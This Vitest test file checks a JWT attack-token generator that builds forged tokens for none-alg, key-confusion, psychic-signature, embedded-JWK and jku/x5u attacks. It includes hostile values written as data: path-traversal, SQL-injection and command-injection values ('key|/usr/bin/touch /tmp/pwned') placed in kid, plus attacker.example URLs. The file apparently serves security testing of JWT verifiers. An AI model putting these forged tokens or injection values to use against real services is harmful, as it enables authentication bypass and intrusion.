/**
 * The attack-token generator (shared/core/attacks): each kind's variants have exactly the documented shape.
 * Everything is checked against node:crypto directly (HMACs recomputed, signatures verified, thumbprints
 * computed), never against the code under test.
 */
import crypto, { type KeyObject } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { generateAttacks, planAttack, readAttackTarget, type AttackVariant } from '../../shared/core/attacks/index';
import { TokenError, WorkbenchError } from '../../shared/core/errors';
import { b64u, nodeToken, pem, type Alg } from './crypto-fixtures';

interface Parts {
  header: string; // decoded header text
  headerSegment: string;
  payloadSegment: string;
  signature: Buffer;
  signatureSegment: string;
  signingInput: string;
}

function partsOf(token: string): Parts {
  const [h, p, s, ...rest] = token.split('.');
  expect(rest).toEqual([]);
  return {
    header: Buffer.from(h as string, 'base64url').toString('utf8'),
    headerSegment: h as string,
    payloadSegment: p as string,
    signature: Buffer.from(s as string, 'base64url'),
    signatureSegment: s as string,
    signingInput: `${h}.${p}`,
  };
}

const headerOf = (token: string): Record<string, unknown> => JSON.parse(partsOf(token).header) as Record<string, unknown>;
const hmac = (alg: string, secret: string | Buffer, input: string): Buffer =>
  crypto.createHmac(`sha${alg.slice(2)}`, secret).update(input).digest();

/** The RFC 7638 thumbprint, computed here: the required members in lexicographic order, SHA-256, base64url. */
function thumbprint(jwk: Record<string, unknown>): string {
  const required = jwk.kty === 'RSA' ? ['e', 'kty', 'n'] : jwk.kty === 'EC' ? ['crv', 'kty', 'x', 'y'] : ['crv', 'kty', 'x'];
  const canonical = JSON.stringify(Object.fromEntries(required.map((m) => [m, jwk[m]])));
  return crypto.createHash('sha256').update(canonical).digest('base64url');
}

const PRIVATE_MEMBERS = ['d', 'p', 'q', 'dp', 'dq', 'qi', 'oth', 'k'];

/** node:crypto's verdict on a JWS signature made with a public key. */
function nodeVerifies(token: string, publicKey: KeyObject): boolean {
  const { signingInput, signature } = partsOf(token);
  const alg = headerOf(token).alg as string;
  const hash = `sha${alg.slice(2)}`;
  if (alg.startsWith('PS')) {
    return crypto.verify(hash, Buffer.from(signingInput), { key: publicKey, padding: crypto.constants.RSA_PKCS1_PSS_PADDING, saltLength: Number(alg.slice(2)) / 8 }, signature);
  }
  if (alg.startsWith('ES')) return crypto.verify(hash, Buffer.from(signingInput), { key: publicKey, dsaEncoding: 'ieee-p1363' }, signature);
  return crypto.verify(hash, Buffer.from(signingInput), publicKey, signature);
}

async function attackError(promise: Promise<unknown>): Promise<WorkbenchError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(WorkbenchError);
  return error as WorkbenchError;
}

// A header with members around alg, spacing and a number JSON.parse would round: all must survive as written.
const RS_HEADER = '{"typ":"JWT", "alg":"RS256","kid":"orig-key","x-serial":12345678901234567890}';
const PAYLOAD = '{"sub":"alice","role":"user","iat":1700000000}';

let rsa: crypto.KeyPairKeyObjectResult;
let p256: crypto.KeyPairKeyObjectResult;
let p384: crypto.KeyPairKeyObjectResult;
let p521: crypto.KeyPairKeyObjectResult;
let rsToken: string;
const secret = crypto.randomBytes(64);
const tokens: Partial<Record<Alg, string>> = {};

beforeAll(() => {
  rsa = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
  p256 = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
  p384 = crypto.generateKeyPairSync('ec', { namedCurve: 'P-384' });
  p521 = crypto.generateKeyPairSync('ec', { namedCurve: 'P-521' });
  rsToken = nodeToken('RS256', rsa.privateKey, RS_HEADER, PAYLOAD);
  tokens.RS256 = rsToken;
  tokens.PS384 = nodeToken('PS384', rsa.privateKey, { typ: 'JWT' }, PAYLOAD);
  tokens.HS256 = nodeToken('HS256', secret, { typ: 'JWT' }, PAYLOAD);
  tokens.HS384 = nodeToken('HS384', secret, { typ: 'JWT' }, PAYLOAD);
  tokens.HS512 = nodeToken('HS512', secret, { typ: 'JWT' }, PAYLOAD);
  tokens.ES256 = nodeToken('ES256', p256.privateKey, { kid: 'ec' }, PAYLOAD);
  tokens.ES384 = nodeToken('ES384', p384.privateKey, {}, PAYLOAD);
  tokens.ES512 = nodeToken('ES512', p521.privateKey, {}, PAYLOAD);
}, 30_000);

const token = (alg: Alg): string => tokens[alg] as string;

/** What every variant shares: kind, a compact token carrying the original payload segment byte for byte. */
function expectCommonShape(variants: AttackVariant[], kind: string, original: string): void {
  expect(variants.length).toBeGreaterThan(0);
  const payloadSegment = original.split('.')[1];
  for (const v of variants) {
    expect(v.kind).toBe(kind);
    expect(partsOf(v.token).payloadSegment).toBe(payloadSegment);
    expect(v.explanation).toMatch(/RFC 8725 §\d/);
    // One or two sentences.
    expect(v.explanation.split(/[.!?](?:\s|$)/).filter((s) => s.trim() !== '').length).toBeLessThanOrEqual(2);
  }
}

describe('none', () => {
  it('makes the four spellings of "none", with only alg changed in the header and an empty signature', async () => {
    const variants = await generateAttacks('none', rsToken);
    expect(variants.map((v) => v.variant)).toEqual(['none', 'None', 'NONE', 'nOnE']);
    expectCommonShape(variants, 'none', rsToken);
    for (const v of variants) {
      const parts = partsOf(v.token);
      expect(parts.header).toBe(RS_HEADER.replace('"alg":"RS256"', `"alg":"${v.variant}"`));
      expect(parts.signatureSegment).toBe('');
      expect(v.key ?? v.jwks ?? v.pem).toBeUndefined();
    }
  });
});

describe('null-signature', () => {
  it('keeps the original header and payload segments and empties the signature', async () => {
    const variants = await generateAttacks('null-signature', rsToken);
    expectCommonShape(variants, 'null-signature', rsToken);
    expect(variants.map((v) => v.variant)).toEqual(['RS256']);
    const [h, p] = rsToken.split('.');
    expect(variants[0]?.token).toBe(`${h}.${p}.`);
  });
});

describe('blank-secret', () => {
  it.each([
    ['RS256', 'HS256'],
    ['HS256', 'HS256'],
    ['HS384', 'HS384'],
    ['HS512', 'HS512'],
    ['ES384', 'HS256'],
  ] as const)('%s token: %s with an empty secret (HMAC recomputed by node:crypto)', async (original, alg) => {
    const variants = await generateAttacks('blank-secret', token(original));
    expectCommonShape(variants, 'blank-secret', token(original));
    expect(variants.map((v) => v.variant)).toEqual([alg]);
    const parts = partsOf(variants[0]!.token);
    expect(headerOf(variants[0]!.token).alg).toBe(alg);
    expect(parts.signature.equals(hmac(alg, Buffer.alloc(0), parts.signingInput))).toBe(true);
  });
});

describe('weak-secret', () => {
  it('re-signs with the given secret, keeping the token\'s HS alg', async () => {
    for (const [original, alg] of [['HS384', 'HS384'], ['RS256', 'HS256']] as const) {
      const [v] = await generateAttacks('weak-secret', token(original), { secret: 'secret123' });
      expectCommonShape([v!], 'weak-secret', token(original));
      expect(v!.variant).toBe(alg);
      expect(headerOf(v!.token).alg).toBe(alg);
      const parts = partsOf(v!.token);
      expect(parts.signature.equals(hmac(alg, 'secret123', parts.signingInput))).toBe(true);
    }
  });

  it('needs a non-empty secret', async () => {
    expect((await attackError(planAttack('weak-secret'))).code).toBe('option-missing');
    expect((await attackError(planAttack('weak-secret', { secret: '' }))).code).toBe('option-invalid');
  });
});

describe('kid-injection', () => {
  it('injects through kid and signs with what the vulnerable lookup returns', async () => {
    const variants = await generateAttacks('kid-injection', token('HS512'));
    expectCommonShape(variants, 'kid-injection', token('HS512'));
    const expected = [
      ['path-traversal', '../../../../../../dev/null', ''],
      ['sql-injection', "x' UNION SELECT 'attacker-secret'-- ", 'attacker-secret'],
      ['command-injection', 'key|/usr/bin/touch /tmp/pwned', ''],
    ];
    expect(variants.map((v) => v.variant)).toEqual(expected.map(([name]) => name));
    variants.forEach((v, i) => {
      const [, kid, key] = expected[i] as [string, string, string];
      const header = headerOf(v.token);
      expect(header).toMatchObject({ alg: 'HS512', kid, typ: 'JWT' });
      const parts = partsOf(v.token);
      expect(parts.signature.equals(hmac('HS512', key, parts.signingInput))).toBe(true);
    });
  });

  it('replaces an existing kid and uses HS256 for a token that is not HMAC', async () => {
    const variants = await generateAttacks('kid-injection', rsToken);
    for (const v of variants) {
      const parts = partsOf(v.token);
      const header = headerOf(v.token);
      expect(header.alg).toBe('HS256');
      // The kid is replaced where it stood; the other members keep their text and order.
      expect(parts.header).toBe(RS_HEADER.replace('"RS256"', '"HS256"').replace('"orig-key"', JSON.stringify(header.kid)));
    }
  });
});

describe('psychic', () => {
  it.each([
    ['ES256', 'ES256', 64],
    ['ES384', 'ES384', 96],
    ['ES512', 'ES512', 132],
    ['RS256', 'ES256', 64],
    ['HS256', 'ES256', 64],
  ] as const)('%s token: %s with r = s = 0 (%i zero bytes)', async (original, alg, length) => {
    const variants = await generateAttacks('psychic', token(original));
    expectCommonShape(variants, 'psychic', token(original));
    expect(variants.map((v) => v.variant)).toEqual([alg]);
    const parts = partsOf(variants[0]!.token);
    expect(headerOf(variants[0]!.token).alg).toBe(alg);
    expect(parts.signature.length).toBe(length);
    expect(parts.signature.every((b) => b === 0)).toBe(true);
  });
});

describe('key-confusion', () => {
  it('RSA public key PEM: five forms, each the HMAC secret of an HS256 token', async () => {
    const file = pem(rsa.publicKey, 'spki'); // ends with a newline, as openssl writes it
    expect(file.endsWith('\n')).toBe(true);
    const variants = await generateAttacks('key-confusion', token('PS384'), { key: file });
    expectCommonShape(variants, 'key-confusion', token('PS384'));
    const jwk = rsa.publicKey.export({ format: 'jwk' });
    const secrets: Record<string, string | Buffer> = {
      'pem-as-file': file,
      'pem-trimmed': file.replace(/\n$/, ''),
      'pkcs1-pem': pem(rsa.publicKey, 'pkcs1'),
      'spki-der': rsa.publicKey.export({ type: 'spki', format: 'der' }),
      'jwk-json': JSON.stringify({ kty: 'RSA', n: jwk.n, e: jwk.e }),
    };
    expect(variants.map((v) => v.variant)).toEqual(Object.keys(secrets));
    for (const v of variants) {
      expect(headerOf(v.token)).toEqual({ alg: 'HS256', typ: 'JWT' });
      const parts = partsOf(v.token);
      expect({ variant: v.variant, matches: parts.signature.equals(hmac('HS256', secrets[v.variant]!, parts.signingInput)) }).toEqual({ variant: v.variant, matches: true });
    }
  });

  it('EC public key: no pkcs1-pem form (PKCS#1 is RSA only)', async () => {
    const file = pem(p384.publicKey, 'spki');
    const variants = await generateAttacks('key-confusion', token('ES384'), { key: file });
    expect(variants.map((v) => v.variant)).toEqual(['pem-as-file', 'pem-trimmed', 'spki-der', 'jwk-json']);
    const jwk = p384.publicKey.export({ format: 'jwk' });
    const secrets = [file, file.trimEnd(), p384.publicKey.export({ type: 'spki', format: 'der' }), JSON.stringify({ kty: 'EC', crv: 'P-384', x: jwk.x, y: jwk.y })];
    variants.forEach((v, i) => {
      const parts = partsOf(v.token);
      expect(headerOf(v.token).alg).toBe('HS256');
      expect(parts.signature.equals(hmac('HS256', secrets[i]!, parts.signingInput))).toBe(true);
    });
  });

  it('a certificate: pem-as-file is the certificate file, the other forms are of its key', async () => {
    const certificate = (await import('./crypto-fixtures')).fixtureText('keys/rsa-cert.pem');
    const publicKey = new crypto.X509Certificate(certificate).publicKey;
    const variants = await generateAttacks('key-confusion', rsToken, { key: certificate });
    const bySecret = Object.fromEntries(variants.map((v) => [v.variant, partsOf(v.token)]));
    const check = (variant: string, key: string | Buffer) => bySecret[variant]!.signature.equals(hmac('HS256', key, bySecret[variant]!.signingInput));
    expect(check('pem-as-file', certificate)).toBe(true);
    expect(check('pkcs1-pem', pem(publicKey, 'pkcs1'))).toBe(true);
    expect(check('spki-der', publicKey.export({ type: 'spki', format: 'der' }))).toBe(true);
  });

  it('a JWK file: pem-as-file is the SPKI PEM openssl would write; a JWKS entry is picked by the token\'s kid', async () => {
    const jwk = { ...p256.publicKey.export({ format: 'jwk' }), kid: 'ec' };
    const [asFile] = await generateAttacks('key-confusion', token('ES256'), { key: JSON.stringify(jwk) });
    expect(asFile!.variant).toBe('pem-as-file');
    expect(partsOf(asFile!.token).signature.equals(hmac('HS256', pem(p256.publicKey, 'spki'), partsOf(asFile!.token).signingInput))).toBe(true);

    const other = { ...p384.publicKey.export({ format: 'jwk' }), kid: 'other' };
    const jwks = JSON.stringify({ keys: [other, jwk] });
    const fromSet = await generateAttacks('key-confusion', token('ES256'), { key: jwks });
    const spki = fromSet.find((v) => v.variant === 'spki-der')!;
    expect(partsOf(spki.token).signature.equals(hmac('HS256', p256.publicKey.export({ type: 'spki', format: 'der' }), partsOf(spki.token).signingInput))).toBe(true);
    // A token without a kid cannot say which of two keys its verifier holds.
    expect((await attackError(generateAttacks('key-confusion', token('ES384'), { key: jwks }))).code).toBe('key-ambiguous');
  });

  it('refuses a private key, a non-key and a missing key', async () => {
    expect((await attackError(planAttack('key-confusion', { key: pem(rsa.privateKey, 'pkcs8') }))).code).toBe('key-not-public');
    const unreadable = await attackError(planAttack('key-confusion', { key: 'not a key' }));
    expect(unreadable.code).toBe('invalid-key');
    expect(unreadable.details).toEqual({ keyCode: 'key-unreadable' });
    expect((await attackError(planAttack('key-confusion'))).code).toBe('option-missing');
  });
});

describe('embedded-jwk', () => {
  it.each([
    ['RS256', undefined, 'RS256', 'RSA'],
    ['ES384', undefined, 'ES384', 'EC'],
    ['HS256', undefined, 'ES256', 'EC'],
    ['ES256', 'rsa', 'RS256', 'RSA'],
    ['PS384', 'ec', 'ES256', 'EC'],
  ] as const)('%s token, key type %s: %s, the public JWK in the header, kid = its thumbprint, verifiable with it', async (original, keyType, alg, kty) => {
    const variants = await generateAttacks('embedded-jwk', token(original), keyType ? { keyType } : {});
    expectCommonShape(variants, 'embedded-jwk', token(original));
    const [v] = variants;
    expect(v!.variant).toBe(alg);
    const header = headerOf(v!.token);
    const jwk = header.jwk as Record<string, unknown>;
    expect(header.alg).toBe(alg);
    expect(jwk.kty).toBe(kty);
    for (const member of PRIVATE_MEMBERS) expect(jwk).not.toHaveProperty(member);
    expect(header.kid).toBe(thumbprint(jwk));
    expect(v!.key).toEqual(jwk);
    const publicKey = crypto.createPublicKey({ key: jwk as crypto.JsonWebKey, format: 'jwk' });
    expect(nodeVerifies(v!.token, publicKey)).toBe(true);
  });
});

describe('jku', () => {
  it('points jku at the URL and brings the JWKS that verifies the token', async () => {
    const url = 'https://attacker.example/.well-known/jwks.json';
    const [v] = await generateAttacks('jku', rsToken, { url });
    expectCommonShape([v!], 'jku', rsToken);
    const header = headerOf(v!.token);
    expect(header).toMatchObject({ typ: 'JWT', alg: 'RS256', jku: url });
    const keys = v!.jwks!.keys;
    expect(keys).toHaveLength(1);
    expect(keys[0]).toMatchObject({ kid: header.kid, use: 'sig', alg: 'RS256' });
    expect(header.kid).toBe(thumbprint(keys[0] as unknown as Record<string, unknown>));
    for (const member of PRIVATE_MEMBERS) expect(keys[0]).not.toHaveProperty(member);
    expect(nodeVerifies(v!.token, crypto.createPublicKey({ key: keys[0] as unknown as crypto.JsonWebKey, format: 'jwk' }))).toBe(true);
  });

  it('uses one key for every token of a run, so one JWKS serves them all', async () => {
    const plan = await planAttack('jku', { url: 'http://127.0.0.1:9/jwks' });
    const [a] = await plan.variants(readAttackTarget(token('ES256')));
    const [b] = await plan.variants(readAttackTarget(token('HS256')));
    expect(headerOf(a!.token).kid).toBe(headerOf(b!.token).kid);
    expect(a!.jwks).toEqual(b!.jwks);
  });

  it('needs an http(s) URL', async () => {
    expect((await attackError(planAttack('jku'))).code).toBe('option-missing');
    expect((await attackError(planAttack('jku', { url: 'file:///etc/passwd' }))).code).toBe('option-invalid');
    expect((await attackError(planAttack('x5u', { url: 'https://a b/' }))).code).toBe('option-invalid');
  });
});

describe('x5u', () => {
  it.each([['ES256'], ['PS384'], ['ES512']] as const)('%s: points x5u at the URL and brings a self-signed certificate whose key verifies the token', async (original) => {
    const url = 'https://attacker.example/cert.pem';
    const [v] = await generateAttacks('x5u', token(original), { url });
    expectCommonShape([v!], 'x5u', token(original));
    const header = headerOf(v!.token);
    expect(header).toMatchObject({ alg: original, x5u: url });
    expect(v!.jwks).toBeUndefined();
    const certificate = new crypto.X509Certificate(v!.pem!);
    expect(v!.pem).toMatch(/^-----BEGIN CERTIFICATE-----\n[\s\S]+\n-----END CERTIFICATE-----\n$/);
    expect(certificate.verify(certificate.publicKey)).toBe(true); // self-signed
    expect(nodeVerifies(v!.token, certificate.publicKey)).toBe(true);
    expect(header.kid).toBe(thumbprint(certificate.publicKey.export({ format: 'jwk' }) as Record<string, unknown>));
    expect(v!.key).toMatchObject({ kid: header.kid });
  });
});

describe('the token to attack', () => {
  it('is read as decode reads it: Bearer, quotes, whitespace', async () => {
    const variants = await generateAttacks('null-signature', `  "Bearer ${rsToken}"\n`);
    const [h, p] = rsToken.split('.');
    expect(variants[0]!.token).toBe(`${h}.${p}.`);
  });

  it('from a JWS JSON serialization: the protected header and the payload segment', async () => {
    const [h, p, s] = rsToken.split('.');
    const flattened = JSON.stringify({ protected: h, payload: p, signature: s });
    const [v] = await generateAttacks('none', flattened);
    expect(partsOf(v!.token).payloadSegment).toBe(p);
    expect(partsOf(v!.token).header).toBe(RS_HEADER.replace('"RS256"', '"none"'));
  });

  it('a token decode refuses throws its TokenError, with decode\'s code', async () => {
    const error = await attackError(generateAttacks('none', 'abc.def'));
    expect(error).toBeInstanceOf(TokenError);
    expect(error.code).toBe('segment-count');
    expect((await attackError(generateAttacks('none', `${rsToken.slice(0, 10)}!${rsToken.slice(11)}`))).code).toBe('base64url-invalid-char');
  });

  it('a JWE has nothing to forge', async () => {
    const jwe = `${b64u('{"alg":"dir","enc":"A128GCM"}')}..${b64u('iv-iv-iv-iv-')}.${b64u('ciphertext')}.${b64u('tag-tag-tag-tag-')}`;
    expect((await attackError(generateAttacks('none', jwe))).code).toBe('not-a-jws');
  });

  it('an unknown kind is refused', async () => {
    expect((await attackError(planAttack('alg-swap' as never))).code).toBe('kind-unknown');
  });
});
